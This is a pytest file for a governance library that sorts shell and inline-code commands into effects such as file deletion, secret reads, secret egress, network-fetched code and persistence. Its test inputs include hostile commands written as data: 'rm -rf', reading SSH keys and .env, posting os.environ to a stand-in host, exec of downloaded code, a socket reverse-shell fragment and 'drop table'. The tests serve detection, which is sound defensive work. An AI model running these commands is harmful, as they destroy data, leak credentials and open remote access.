"""Code in another language: calls with a literal argument are seen, and nothing is claimed beyond."""

from __future__ import annotations

import pytest

from unit.effects.scenes import HOME, bash, deeds, effects
from web4_governance.core.action import Effect
from web4_governance.core.effects.code import MAX_FOUND, MAX_TEXT, calls

TYPE_CHECKING = False
if TYPE_CHECKING:
    from typing import Any


def python(code: str) -> list[str]:
    """Give the deeds of Python code in a heredoc."""
    return deeds(bash(f"python3 - <<'EOF'\n{code}\nEOF"))


@pytest.mark.parametrize(
    ("code", "deed"),
    [
        ("shutil.rmtree('/x')", "file.delete /x"),
        ('os.remove(r"a.txt")', "file.delete a.txt"),
        ("os.remove( 'a' )", "file.delete a"),
        ("os.remove(name)", "file.delete "),
        ("os.remove(f'{x}/a')", "file.delete "),
        ("os.remove('a' + b)", "file.delete "),
        ("os.remove('a", "file.delete "),
        ("Path('x').unlink()", "file.delete x"),
        ("open('a')", "file.read a"),
        ("open('a', encoding='utf-8')", "file.read a"),
        ("open('a', 'rb')", "file.read a"),
        ("open('a', 'w')", "file.write a"),
        ("open('a', mode='w')", "file.write a"),
        ("open('a', how)", "file.write a"),
        ("open('.env')", "secret.read .env"),
        ("os.system('rm -rf /x')", "file.delete /x"),
        ("os.system(cmd)", "opaque"),
        ("subprocess.run(['rm', '-rf', \"/x y\"], check=True)", "file.delete /x y"),
        ("subprocess.run(['rm', name])", 'file.delete "$_"'),
        ("subprocess.run(['rm'", "opaque"),
        ("requests.post('https://example.org/a')", "net.egress https://example.org/a"),
        ("requests.get(url)", "net.ingress"),
        ("exec(base64.b64decode(x))", "opaque"),
        ("os.kill(1, 9)", "process.kill"),
    ],
)
def test_a_call_with_a_literal_is_seen(code: str, deed: str) -> None:
    """A literal path, command or address is read; anything put together at run time is unknown or opaque."""
    assert deed in python(code)


@pytest.mark.parametrize("code", ["print('os.remove')", "my_open('a', 'w')", "x = 1", "reopen('a','w')"])
def test_what_is_no_such_call_is_only_code(code: str) -> None:
    """Names in texts and longer names are not the call."""
    assert set(python(code)) == {"code.run"}


@pytest.mark.parametrize(
    ("command", "deed"),
    [
        ("node -e \"require('fs').unlinkSync('a')\"", "file.delete a"),
        ("node -e \"require('child_process').execSync('rm -rf b')\"", "file.delete b"),
        ("ruby -e \"system('rm -rf b')\"", "file.delete b"),
        ("python3 -c \"import os; os.system('cat ~/.ssh/id_rsa')\"", f"secret.read {HOME}/.ssh/id_rsa"),
        ("echo \"import os; os.remove('a')\" | python3", "file.delete a"),
    ],
)
def test_other_languages_and_ways_in(command: str, deed: str) -> None:
    """An option, a heredoc and a pipe bring code just the same."""
    assert deed in deeds(bash(command))


def test_code_that_is_not_known_is_opaque() -> None:
    """`python -c "$X"` may be anything, where the call itself has a say in what `X` holds; else it lay there, like a script."""
    assert "opaque" in effects('X=$(cat a); python3 -c "$X"')
    assert "opaque" in effects('read -r X; python3 -c "$X"')
    assert "opaque" in effects('python3 -c "import os; $X"')
    assert effects('python3 -c "$X"') == {"code.run"}


def test_code_that_is_too_much_to_read_is_opaque() -> None:
    """Padding does not hide the last call."""
    rows: Any = ({"calls": ["f("], "effect": "file.delete", "takes": "path"},)
    assert [found.effect for found in calls("a" * (MAX_TEXT + 1), rows)] == [Effect.OPAQUE]
    assert [found.effect for found in calls("f('a');" * (MAX_FOUND + 5), rows)][-1] is Effect.OPAQUE


def test_a_row_of_calls_without_an_effect_is_opaque() -> None:
    """A pack's misspelled effect is the careful one."""
    rows: Any = ({"calls": "f(", "effect": "x"},)
    assert [found.effect for found in calls("f()", rows)] == [Effect.OPAQUE]


@pytest.mark.parametrize(
    ("code", "deed"),
    [
        ("import shutil as s; s.rmtree('/x')", "file.delete /x"),
        ("from os import remove as r, system\nr('/x')", "file.delete /x"),
        ("from nowhere import remove\nremove('/x')", "code.run"),
        ("from os import *\nos.remove('/x')", "file.delete /x"),
        ("import nowhere as s\ns.rmtree('/x')", "code.run"),
        ("import shutil as s\nxs.a = 1; s.rmtree('/x')", "file.delete /x"),
        ("os.remove('a' % b)", "file.delete "),
        ("p = '/x'\nos.remove(p)", "file.delete /x"),
        ("p = '/x'\np = '/y'\nos.remove(p)", "file.delete "),
        ("p = p\nos.remove(p)", "file.delete "),
        ("os.remove(1)", "file.delete "),
        ("os.remove(os.path.join('/a', 'b'))", "file.delete /a/b"),
        ("os.remove(os.path.join('/a', b))", "file.delete "),
        ("os.remove(os.path.expanduser('~') + '/b')", "file.delete ~/b"),
        ("os.remove('/a' + '/b')", "file.delete /a/b"),
        ("os.remove(str('/a').strip())", "file.delete /a"),
        ("os.remove('a'.strip())", "file.delete a"),
        ("os.remove(b'a\\'b')", "file.delete "),
        ("os.remove('a\\\\\\\\')", "file.delete "),
        ("(Path.home() / 'b').unlink()", "file.delete ~/b"),
        ("p = Path('/x')\np.unlink()", "file.delete /x"),
        ("Path('/x').resolve().unlink()", "file.delete /x"),
        ("f(x).unlink()", "file.delete "),
        (")).unlink()", "file.delete "),
        ("Path(x).unlink()", "file.delete "),
        ("shutil.move('/a', '/etc/b')", "file.write /etc/b"),
        ("shutil.move(a, '/etc/b')", "file.write "),
        ("exec('os.remove(\"/x\")')", "file.delete /x"),
        ("exec(x)", "opaque"),
        ("exec(requests.get('https://x.example').text)", "code.from-network"),
        ("requests.post('https://x.example', json=dict(os.environ))", "secret.egress"),
        ("s=socket.socket(); os.dup2(s.fileno(), 0)", "code.from-network"),
        ("subprocess.run([sys.executable, '-m', 'pytest'])", "code.run"),
        ("subprocess.run(['rm', '-rf'", "opaque"),
        ("subprocess.run([x, 'a'])", "opaque"),
        ("subprocess.run([" + "'rm', " * 300 + "])", "file.delete rm"),
        ("os.remove(" + "'a' + " * 100 + "'b')", "file.delete " + "a" * 100 + "b"),
        ("os.remove(" + "str(" * 40 + "'a')", "file.delete "),
    ],
)
def test_names_and_arguments_are_read_as_far_as_words_tell(code: str, deed: str) -> None:
    """Renamed imports, names with one value, joined paths, lists; the rest is unknown."""
    assert deed in python(code)


@pytest.mark.parametrize(
    ("command", "deed"),
    [
        ("node -e \"const f = require('fs'); f.rmSync('/x')\"", "file.delete /x"),
        ("node -e \"const {rmSync: r, cpSync} = require('node:fs'); r('/x')\"", "file.delete /x"),
        ("node -e \"const fs = require('fs'); fs.rmSync('/x')\"", "file.delete /x"),
        ("node -e \"import * as f from 'fs'; f.rmSync('/x')\"", "file.delete /x"),
        ("node -e \"import {rmSync as r} from 'fs'; r('/x')\"", "file.delete /x"),
        ("node -e \"const q = require('q'); q.rmSync('/x')\"", "file.delete /x"),
        ("node -e \"const c = require('child_process'); c.spawn('rm', ['-rf', '/x'])\"", "file.delete /x"),
        ("node -e \"spawnSync('rm', [x\"", "code.run"),
        ("node -e \"const a = b('1'), {c} = d + require('fs')\"", "code.run"),
        ("node -e \"const a = '/x', b = require('./b'); b.go()\"", "code.run"),
        ('ruby -e \'system("rm", "-rf", "/x")\'', "file.delete /x"),
        ("ruby -e 'system(\"rm\", x)'", "code.run"),
        ("ruby -e 'puts `rm /x`'", "file.delete /x"),
        ("ruby -e '%x(rm /x)'", "file.delete /x"),
        ("ruby -e '%x(rm /x'", "code.run"),
        ("ruby -e 'a = 5 %x; %xrm'", "code.run"),
        ("ruby -e 'puts `rm #{x}`'", "opaque"),
        ("perl -e 'qx{rm /x}'", "file.delete /x"),
        ('perl -e \'open(F, "<", "/x")\'', "file.read /x"),
        ("perl -e 'open F, \">/x\"'", "file.write /x"),
        ("perl -e 'open(F, \"/x\") or die'", "file.read /x"),
        ("perl -e 'open(F, \"rm /x |\")'", "file.delete /x"),
        ('perl -e \'open(F, "-|", "rm /x")\'', "file.delete /x"),
        ("perl -e 'open(F, $x); reopen(\"/y\"); opendir(D)'", "code.run"),
        ("awk 'BEGIN { \"rm /x\" | getline }'", "file.delete /x"),
        ("awk 'BEGIN { print 1 | \"rm /x\" }'", "file.delete /x"),
        ("awk 'BEGIN { getline l < \"/x\" }'", "file.read /x"),
        ("awk 'BEGIN { print 1 > \"/x\" }'", "file.write /x"),
        ("awk 'BEGIN { print 1 | \"sh\" }'", "opaque"),
        ("cat a | python3 -c 'import sys; exec(sys.stdin.read())'", "opaque"),
    ],
)
def test_what_languages_do_by_signs_is_read(command: str, deed: str) -> None:
    """Quoted commands, Perl's `open`, awk's pipes and files, and modules under other names."""
    assert deed in deeds(bash(command))


def test_a_filter_that_only_prints_does_nothing_else() -> None:
    """A comparison is no redirection, and a literal that does not end is none."""
    assert effects('awk \'$1 > "a" || "b" < $2 { print "c" }\'') <= {"-", "None", "file.read"}
    assert "opaque" not in effects("awk 'BEGIN { print \"a }'")


def test_more_than_is_read_is_opaque() -> None:
    """Padding with files that are opened hides no later one."""
    rows: Any = ()
    assert [found.effect for found in calls("open(F);" * 1100, rows, "perl")] == [Effect.OPAQUE]


def test_code_within_code_ends_somewhere() -> None:
    """Texts that are run within texts that are run are followed a few deep."""
    assert "code.run" in python("exec(\"exec('exec(`exec(1)`)')\")")


@pytest.mark.parametrize(
    ("command", "want"),
    [
        ("perl -e 'unlink \"$ENV{HOME}/x\"'", "file.delete ~/x"),
        ("perl -e '$h = $ENV{HOME}; unlink \"$h/x\"'", "file.delete ~/x"),
        ('perl -e \'$h = "/x"; unlink "${h}/y"\'', "file.delete"),
        ("perl -e 'rmtree \"/x\"'", "file.delete /x"),
        ("perl -e 'open(F, \">$ENV{HOME}/.bashrc\")'", "persistence ~/.bashrc"),
        ("perl -e 'system \"rm $f\"'", "opaque"),
        ("perl -e 'unlink \"a@b\"'", "file.delete"),
        ("perl -e 'unlink \"a$\"'", "file.delete a$"),
        ('php -r \'$h=getenv("HOME"); unlink("$h/x");\'', "file.delete ~/x"),
        ('php -r \'$h="/x"; unlink("{$h}/y");\'', "file.delete /x/y"),
        ("php -r 'unlink(\"$a[0]/y\");'", "file.delete"),
        ('node -e \'require("fs/promises").rm("/x")\'', "file.delete /x"),
        ('node -e \'const {execSync:e}=require("child_process"); e("rm /x")\'', "file.delete /x"),
        ("ruby -e 'Pathname.new(\"/x\").rmtree'", "file.delete /x"),
        ('python3 -c \'import sqlite3; sqlite3.connect("a").execute("drop table t")\'', "db.drop t"),
        ('python3 -c \'c.executescript("""select 1;\ndrop table t""")\'', "db.drop t"),
        ("php -r '$db->exec(\"drop table t\");'", "db.drop t"),
    ],
)
def test_a_name_in_a_text_is_what_it_is_given_and_no_part_of_the_text(command: str, want: str) -> None:
    """Perl and PHP put names into texts between double quotes; a statement is read as one, a module by any of its names."""
    found = deeds(bash(command))
    assert want in found or any(one.startswith(want) for one in found)


def test_what_is_no_statement_is_not_read_as_one() -> None:
    """Regular expressions and processes have a call of that name too."""
    assert not {"db.write", "db.drop"} & effects('node -e \'/a/.exec("drop it"); cp.exec("ls")\'')
    assert "file.delete /a$b" in deeds(bash("perl -e \"unlink '/a\\$b'\""))
    assert "opaque" not in effects('python3 -c \'print("""a""")\'')
    assert "opaque" not in effects('python3 -c \'print("""a)\'')
